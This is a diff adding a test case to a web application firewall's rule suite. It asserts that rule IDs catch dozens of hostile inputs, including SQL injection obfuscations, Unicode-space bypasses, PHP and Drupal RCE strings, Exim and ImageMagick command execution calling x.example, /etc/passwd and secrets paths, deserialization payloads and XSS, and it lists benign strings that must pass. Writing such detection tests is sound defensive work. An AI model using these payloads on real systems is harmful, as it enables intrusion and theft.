@@ -34,6 +34,31 @@ describe("edge.waf.rules sixteenth to twentieth blind sets", function()
         clean({ "NODE_OPTIONS=--max-old-space-size=4096", "cos\nsin\ntan" })
     end)
 
+    it("twenty-first to twenty-fourth: nested and split keywords, Unicode spaces, frameworks' RCE entry points", function()
+        caught_by(142300, { "1 UNUNIONION SELSELECTECT 2", "x' AANDND 1=1", "1 SEL<>ECT pw", "1 UNI/*x*/ON SELECT 1" })
+        caught_by(142130, { "1\227\128\128UNION\227\128\128SELECT 1", "1\226\128\168UNION\226\128\169SELECT 2",
+            "1\28union\31select 3" })
+        caught_by(133110, { "a[#pre_render][]=passthru", "s=\\think\\Container/invokefunction",
+            "_method=__construct&filter[]=assert", "zerodiumexec('ls');" })
+        caught_by(133140, { "avatar.png.php", "cv.pdf.phtml" })
+        caught_by(132110, { "s/x/ls/e", "${run{/bin/sh -c id}}", "ephemeral:/tmp/x.jpg", "(%pipe%curl x.example) x" })
+        caught_by(132160, { "; /u[s]r/bin/id", "&& /e[t]c/passwd" })
+        caught_by(132190, { "&(\"{0}{1}\" -f 'i','ex') 'ls'" })
+        caught_by(132220, { "{\"py/reduce\": [{\"py/type\": \"os.system\"}]}", "read_pickle('https://x.example/p')" })
+        caught_by(135100, { "module.constructor._load('child_process')" })
+        caught_by(135130, { "res.send(JSON.stringify(process.env))" })
+        caught_by(144100, { "c.getDeclaredMethod(\"forName\", String.class)" })
+        caught_by(144140, { "<mlet code=x archive=x.jar codebase=http://x.example/>", "/h2-console/test.do?x=1" })
+        caught_by(134100, { "{{ 6 | plus: 7 }}", "{{ settings | json }}" })
+        caught_by(141230, { "\188img src=x onerror=alert(1)\190", "\194\188svg/onload=x\194\190" })
+        clean({ "AT&amp;T Unlimited&reg; plan", "Invoice #4411; PO 7781; net 30", "ETA 10 min; ping me if it takes > 30 min.",
+            "hi; ping me later\nok", "1/**/union/**/all", "sorry, or rather", "x <> y and a<>b", "pages/[id]/index.tsx",
+            "s/foo/bar/g", "{{ price | times: 1.2 }}", "{{ page.title | jsonify }}", "\194\188 cup flour, \194\190 cup sugar",
+            "\227\131\166\227\131\188\227\130\182\227\131\188\227\129\140\227\129\190\227\129\153",
+            "\208\188\208\190\209\129\209\130", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB",
+            "console.log(process.env.HOME)", "{\"$ref\": \"#/definitions/x\"}" })
+    end)
+
     it("LFI and PHP: /./ segments, container secrets, ini extension paths, dir()", function()
         caught_by(130110, { "/./etc/././shadow", "/run/secrets/api_token", "run/secrets/x" })
         caught_by(133130, { "zend_extension=/var/tmp/x.so", "extension = C:\\temp\\evil.dll" })
